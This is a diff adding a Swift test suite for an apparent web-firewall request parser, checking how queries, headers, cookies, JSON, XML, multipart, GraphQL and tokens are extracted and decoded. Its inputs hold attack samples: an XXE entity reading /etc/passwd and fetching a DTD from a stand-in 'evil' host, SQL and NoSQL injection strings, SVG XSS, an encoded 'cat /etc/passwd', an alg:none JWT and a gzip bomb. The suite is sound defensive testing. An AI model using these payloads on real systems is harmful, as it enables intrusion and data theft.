@@ -1,0 +1,283 @@
+import BodyDecompression
+import CompressNIO
+import MirrorGuardCore
+import NIOCore
+import Testing
+@testable import RequestParsing
+
+@Suite("Point extraction")
+struct PointExtractorTests {
+    @Test("path segments, full path and extension")
+    func path() {
+        let extracted = points(HTTPRequest(method: "GET", target: "/api/v1/users/42/avatar.PNG"))
+        #expect(value(extracted, "path") == "/api/v1/users/42/avatar.PNG")
+        #expect(value(extracted, "path[0]") == "api")
+        #expect(value(extracted, "path[3]") == "42")
+        #expect(value(extracted, "path[4]") == "avatar.PNG")
+        #expect(value(extracted, "path.extension") == "png")
+    }
+
+    @Test("absolute-form targets lose scheme and authority")
+    func absoluteForm() {
+        let extracted = points(HTTPRequest(method: "GET", target: "http://example.com:8080/a/b?q=1"))
+        #expect(value(extracted, "path") == "/a/b")
+        #expect(value(extracted, "query.q") == "1")
+    }
+
+    @Test("query parameters: repeated, list and hash forms, plus and percent decoding")
+    func query() {
+        let extracted = points(HTTPRequest(method: "GET", target: "/s?q=a+b%20c&id=1&id=2&tags[]=x&tags[]=y&user[name]=bob&user[address][city]=Paris&m[0]=z&flag"))
+        #expect(value(extracted, "query.q") == "a b c")
+        #expect(value(extracted, "query.id[0]") == "1")
+        #expect(value(extracted, "query.id[1]") == "2")
+        #expect(value(extracted, "query.tags[0]") == "x")
+        #expect(value(extracted, "query.tags[1]") == "y")
+        #expect(value(extracted, "query.user.name") == "bob")
+        #expect(value(extracted, "query.user.address.city") == "Paris")
+        #expect(value(extracted, "query.m[0]") == "z")
+        #expect(value(extracted, "query.flag") == "")
+        #expect(value(extracted, "query.id") == nil)
+    }
+
+    @Test("keys that are not identifiers become key points with escaped names")
+    func keyPoints() {
+        let extracted = points(HTTPRequest(method: "GET", target: "/?user[$ne]=1&%27%20or%201=1--=x&a.b=1"))
+        let keys = extracted.points.filter { $0.role == .key }
+        #expect(keys.map(\.valueString).contains("user[$ne]"))
+        #expect(keys.map(\.valueString).contains("' or 1"))
+        #expect(value(extracted, "query.user.$ne") == "1")
+        // '.' inside a key is escaped so it cannot forge a path.
+        #expect(value(extracted, "query.a%2Eb") == "1")
+        #expect(keys.allSatisfy { $0.name.hasSuffix("#key") })
+    }
+
+    @Test("every header is a point; repeated headers are indexed; cookies are split and decoded")
+    func headersAndCookies() {
+        let extracted = points(request("GET / HTTP/1.1\r\nHost: a.test\r\nUser-Agent: curl/8\r\nX-Forwarded-For: 1.1.1.1\r\nX-Forwarded-For: 2.2.2.2\r\nCookie: session=abc; theme=%3Cb%3E\r\nCookie: \"q\"=\"quoted\"\r\n\r\n"))
+        #expect(value(extracted, "header.host") == "a.test")
+        #expect(value(extracted, "header.user-agent") == "curl/8")
+        #expect(value(extracted, "header.x-forwarded-for[0]") == "1.1.1.1")
+        #expect(value(extracted, "header.x-forwarded-for[1]") == "2.2.2.2")
+        #expect(value(extracted, "cookie.session") == "abc")
+        #expect(value(extracted, "cookie.theme") == "<b>")
+        #expect(value(extracted, "header.cookie") == nil)
+    }
+
+    @Test("urlencoded form bodies")
+    func form() {
+        let extracted = points(request("POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded; charset=UTF-8\r\nContent-Length: 33\r\n\r\nuser=o%27brien&pass=a+b&remember="))
+        #expect(value(extracted, "body.form.user") == "o'brien")
+        #expect(value(extracted, "body.form.pass") == "a b")
+        #expect(value(extracted, "body.form.remember") == "")
+    }
+
+    @Test("JSON: nested leaves, arrays, escapes, odd keys, numbers and booleans")
+    func json() {
+        let body = #"{"user":{"name":"Zo\u00e9","emails":["a@x.io","b@x.io"],"age":31,"admin":false,"note":null},"$where":"1","a b":"c","items":[{"sku":"X1"}]}"#
+        let extracted = points(HTTPRequest(method: "POST", target: "/u", headers: [("Content-Type", "application/json")], body: bytes(body)))
+        #expect(value(extracted, "body.json.user.name") == "Zoé")
+        #expect(value(extracted, "body.json.user.emails[0]") == "a@x.io")
+        #expect(value(extracted, "body.json.user.emails[1]") == "b@x.io")
+        #expect(value(extracted, "body.json.user.age") == "31")
+        #expect(value(extracted, "body.json.user.admin") == "false")
+        #expect(value(extracted, "body.json.user.note") == nil)
+        #expect(value(extracted, "body.json.$where#key") == "$where")
+        #expect(value(extracted, "body.json.a%20b") == "c")
+        #expect(value(extracted, "body.json.items[0].sku") == "X1")
+        #expect(extracted.anomalies.isEmpty)
+    }
+
+    @Test("invalid JSON keeps what parsed, reports it and analyses the raw body")
+    func invalidJSON() {
+        let extracted = points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Type", "application/json")], body: bytes(#"{"a":"1","b": tru"#)))
+        #expect(value(extracted, "body.json.a") == "1")
+        #expect(extracted.anomalies.map(\.kind).contains(.invalidJSON))
+        #expect(value(extracted, "body") == #"{"a":"1","b": tru"#)
+    }
+
+    @Test("untyped bodies are sniffed as JSON, XML or forms")
+    func sniffing() {
+        #expect(value(points(HTTPRequest(method: "POST", target: "/", body: bytes(#"{"k":"v"}"#))), "body.json.k") == "v")
+        #expect(value(points(HTTPRequest(method: "POST", target: "/", body: bytes("<?xml version=\"1.0\"?><a><b>t</b></a>"))), "body.xml.a.b") == "t")
+        #expect(value(points(HTTPRequest(method: "POST", target: "/", body: bytes("a=1&b=2"))), "body.form.b") == "2")
+        #expect(value(points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Type", "text/plain")], body: bytes("just some text"))), "body") == "just some text")
+    }
+
+    @Test("XML: elements, attributes, repeated siblings, comments, PIs, DOCTYPE and entities")
+    func xml() {
+        let body = """
+        <?xml version="1.0"?>
+        <!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd"> <!ENTITY % p SYSTEM "http://evil/x.dtd">]>
+        <order id="7"><!-- note --><item sku="A&amp;1">one</item><item sku="B">two &lt;b&gt;</item><?php echo 1; ?><empty/><data><![CDATA[<raw>]]></data></order>
+        """
+        let extracted = points(HTTPRequest(method: "POST", target: "/x", headers: [("Content-Type", "application/xml")], body: bytes(body)))
+        #expect(value(extracted, "body.xml.order@id") == "7")
+        #expect(value(extracted, "body.xml.order.item[0]") == "one")
+        #expect(value(extracted, "body.xml.order.item[1]") == "two <b>")
+        #expect(value(extracted, "body.xml.order.item@sku[0]") == "A&1")
+        #expect(value(extracted, "body.xml.order.data") == "<raw>")
+        #expect(value(extracted, "body.xml#comment") == " note ")
+        #expect(value(extracted, "body.xml#pi") == "php echo 1; ")
+        #expect(value(extracted, "body.xml#doctype")?.hasPrefix("<!DOCTYPE order [") == true)
+        #expect(value(extracted, "body.xml#entity.xxe") == #"SYSTEM "file:///etc/passwd""#)
+        #expect(value(extracted, "body.xml#entity.p") == #"SYSTEM "http://evil/x.dtd""#)
+    }
+
+    @Test("multipart: fields, file names, part headers, text files; binary files skipped")
+    func multipart() {
+        let body = "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHello\r\n"
+            + "--XyZ\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"me.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n<svg onload=alert(1)>\r\n"
+            + "--XyZ\r\nContent-Disposition: form-data; name=\"blob\"; filename=\"b.bin\"\r\n\r\n\u{0}\u{1}\u{2}\r\n--XyZ--\r\n"
+        let extracted = points(HTTPRequest(method: "POST", target: "/up", headers: [("Content-Type", "multipart/form-data; boundary=XyZ")], body: bytes(body)))
+        #expect(value(extracted, "body.multipart.title") == "Hello")
+        #expect(value(extracted, "body.multipart.avatar.filename") == "me.svg")
+        #expect(value(extracted, "body.multipart.avatar.header.content-type") == "image/svg+xml")
+        #expect(value(extracted, "body.multipart.avatar") == "<svg onload=alert(1)>")
+        #expect(value(extracted, "body.multipart.blob.filename") == "b.bin")
+        #expect(value(extracted, "body.multipart.blob") == nil)
+        #expect(extracted.anomalies.isEmpty)
+    }
+
+    @Test("multipart without a boundary parameter is sniffed and reported")
+    func multipartMissingBoundary() {
+        let body = "--abc\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nvalue\r\n--abc--\r\n"
+        let extracted = points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Type", "multipart/form-data")], body: bytes(body)))
+        #expect(extracted.anomalies.map(\.kind).contains(.multipartMissingBoundary))
+        #expect(value(extracted, "body.multipart.q") == "value")
+    }
+
+    @Test("multipart with an unknown boundary falls back to the raw body")
+    func multipartWrongBoundary() {
+        let extracted = points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Type", "multipart/form-data; boundary=nope")], body: bytes("payload without parts")))
+        #expect(extracted.anomalies.map(\.kind).contains(.multipartMalformed))
+        #expect(value(extracted, "body") == "payload without parts")
+    }
+
+    @Test("GraphQL: document, variables, operation name and string arguments")
+    func graphQL() {
+        let body = #"{"query":"query Q($id: ID!) { user(id: $id, name: \"bob' or 1=1\") { posts(filter: \"\"\"x\"\"\") { id } } }","variables":{"id":"42"},"operationName":"Q"}"#
+        let extracted = points(HTTPRequest(method: "POST", target: "/graphql", headers: [("Content-Type", "application/json")], body: bytes(body)))
+        #expect(value(extracted, "body.graphql.query")?.hasPrefix("query Q") == true)
+        #expect(value(extracted, "body.graphql.variables.id") == "42")
+        #expect(value(extracted, "body.graphql.operationName") == "Q")
+        #expect(value(extracted, "body.graphql.arguments.name") == "bob' or 1=1")
+        #expect(value(extracted, "body.graphql.arguments.filter") == "x")
+    }
+
+    @Test("JWT in Authorization and in cookies; Basic credentials")
+    func tokens() {
+        // {"alg":"none","typ":"JWT"} . {"sub":"admin' --","roles":["a"]}
+        let jwt = "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbicgLS0iLCJyb2xlcyI6WyJhIl19."
+        let extracted = points(request("GET / HTTP/1.1\r\nAuthorization: Bearer \(jwt)\r\nCookie: token=\(jwt)\r\n\r\n"))
+        #expect(value(extracted, "header.authorization|jwt.header.alg") == "none")
+        #expect(value(extracted, "header.authorization|jwt.payload.sub") == "admin' --")
+        #expect(value(extracted, "header.authorization|jwt.payload.roles[0]") == "a")
+        #expect(value(extracted, "cookie.token|jwt.payload.sub") == "admin' --")
+        let basic = points(request("GET / HTTP/1.1\r\nAuthorization: Basic YWRtaW46cGFzcw==\r\n\r\n"))
+        #expect(value(basic, "header.authorization|basic") == "admin:pass")
+    }
+
+    @Test("decoder chains are recorded in names: double encoding, entities, escapes, base64, JSON in values")
+    func decoderChains() {
+        let target = "/?a=%253Cscript%253E&b=%26lt%3Bimg%26gt%3B&c=%5Cu003csvg%5Cu003e&d=eyJjbWQiOiAiY2F0IC9ldGMvcGFzc3dkIn0%3D&e=%7B%22x%22%3A%7B%22%24gt%22%3A%22%22%7D%7D"
+        let extracted = points(HTTPRequest(method: "GET", target: target))
+        #expect(value(extracted, "query.a") == "%3Cscript%3E")
+        #expect(value(extracted, "query.a|percent") == "<script>")
+        #expect(value(extracted, "query.b|html") == "<img>")
+        #expect(value(extracted, "query.c|unicode") == "<svg>")
+        #expect(value(extracted, "query.d|base64") == #"{"cmd": "cat /etc/passwd"}"#)
+        #expect(value(extracted, "query.d|base64|json.cmd") == "cat /etc/passwd")
+        #expect(value(extracted, "query.e|json.x.$gt") == "")
+        #expect(value(extracted, "query.e|json.x.$gt#key") == "$gt")
+        let chained = extracted.points.first { $0.name == "query.d|base64|json.cmd" }
+        #expect(chained?.decoders == [.base64, .json])
+    }
+
+    @Test("plain identifiers, hex ids and numbers are not mistaken for base64")
+    func noFalseBase64() {
+        let extracted = points(HTTPRequest(method: "GET", target: "/?s=1F767F17239C9B670A39E9B10C3825F4&w=internationalization&n=1234567890123456"))
+        #expect(!extracted.points.contains { $0.decoders.contains(.base64) })
+    }
+
+    @Test("decoding stops at maxDecodeLayers and says so")
+    func decodeLayers() {
+        var limits = ParsingLimits()
+        limits.maxDecodeLayers = 2
+        // '<' encoded four times over.
+        let extracted = points(HTTPRequest(method: "GET", target: "/?x=%25252525253C"), limits: limits)
+        #expect(extracted.points.contains { $0.name == "query.x|percent|percent" })
+        #expect(!extracted.points.contains { $0.name == "query.x|percent|percent|percent" })
+        #expect(extracted.anomalies.map(\.kind).contains(.decodeLayersExceeded))
+    }
+
+    @Test("invalid UTF-8 is kept as bytes in points")
+    func invalidUTF8() {
+        var target = bytes("/p?x=")
+        target += [0xC3, 0x28, 0xFF, 0x41]
+        let extracted = points(HTTPRequest(method: bytes("GET"), target: target))
+        let point = extracted.points.first { $0.name == "query.x" }
+        #expect(point?.value == [0xC3, 0x28, 0xFF, 0x41])
+        let encoded = points(HTTPRequest(method: "GET", target: "/?y=%FF%FEa"))
+        #expect(encoded.points.first { $0.name == "query.y" }?.value == [0xFF, 0xFE, 0x61])
+    }
+
+    @Test("100,000 parameters stop at the limit; the rest is analysed as one raw point")
+    func manyParameters() throws {
+        let query = (0..<100_000).map { "p\($0)=v" }.joined(separator: "&") + "&last=%3Cscript%3E"
+        let extracted = points(HTTPRequest(method: "GET", target: "/?" + query))
+        #expect(extracted.points.count <= ParsingLimits.default.maxParameters + 2)
+        #expect(extracted.anomalies.map(\.kind).contains(.tooManyParameters))
+        let rest = try #require(extracted.points.first { $0.name == "query" })
+        #expect(String(decoding: rest.value.suffix(13), as: UTF8.self) == "last=<script>")
+        // The remainder starts at the first pair that did not fit: nothing before it is analysed twice.
+        #expect(String(decoding: rest.value.prefix(13), as: UTF8.self) == "p1024=v&p1025")
+    }
+
+    @Test("10,000-deep JSON is bounded: deeper values analysed as raw text")
+    func deepJSON() {
+        let body = String(repeating: "[", count: 10_000) + "\"deep\"" + String(repeating: "]", count: 10_000)
+        let extracted = points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Type", "application/json")], body: bytes(body)))
+        #expect(extracted.anomalies.map(\.kind).contains(.jsonDepthExceeded))
+        #expect(extracted.points.contains { $0.location == .body && $0.value.contains(0x64) })
+    }
+
+    @Test("10,000-deep XML is bounded")
+    func deepXML() {
+        let body = String(repeating: "<a>", count: 10_000) + "x" + String(repeating: "</a>", count: 10_000)
+        let extracted = points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Type", "text/xml")], body: bytes(body)))
+        #expect(extracted.anomalies.map(\.kind).contains(.xmlDepthExceeded))
+        #expect(extracted.points.contains { $0.valueString == "x" })
+    }
+
+    @Test("gzip bodies are inflated; a gzip bomb stops at the cap")
+    func gzip() throws {
+        let json = bytes(#"{"q":"inflated"}"#)
+        let small = try compress(json)
+        let extracted = points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Type", "application/json"), ("Content-Encoding", "gzip")], body: small), decompressor: ZlibBodyDecompressor())
+        #expect(value(extracted, "body.json.q") == "inflated")
+        #expect(extracted.points.first { $0.name == "body.json.q" }?.decoders == [.gzip])
+
+        // 1 GiB of zeros compresses to about 1 MB; 64 MiB (~64 KB compressed) shows the same bound here.
+        let bomb = try compress([UInt8](repeating: 0x30, count: 64 << 20))
+        #expect(bomb.count < 100_000)
+        let limited = points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Encoding", "gzip")], body: bomb), decompressor: ZlibBodyDecompressor())
+        #expect(limited.anomalies.map(\.kind).contains(.decompressionLimit))
+        let body = limited.points.first { $0.name == "body" }
+        #expect((body?.value.count ?? 0) <= ParsingLimits.default.maxDecompressedBytes)
+    }
+
+    @Test("corrupt gzip and unsupported codings are reported, the raw body is not lost")
+    func badCompression() {
+        let corrupt = points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Encoding", "gzip")], body: bytes("not gzip at all")), decompressor: ZlibBodyDecompressor())
+        #expect(corrupt.anomalies.map(\.kind).contains(.decompressionFailed))
+        #expect(value(corrupt, "body") == "not gzip at all")
+        let brotli = points(HTTPRequest(method: "POST", target: "/", headers: [("Content-Encoding", "br")], body: bytes("x")))
+        #expect(brotli.anomalies.map(\.kind).contains(.compressedBodyNotInspected))
+    }
+
+    private func compress(_ input: [UInt8]) throws -> [UInt8] {
+        var buffer = ByteBuffer(bytes: input)
+        let compressed = try buffer.compress(with: .gzip)
+        return Array(compressed.readableBytesView)
+    }
+}
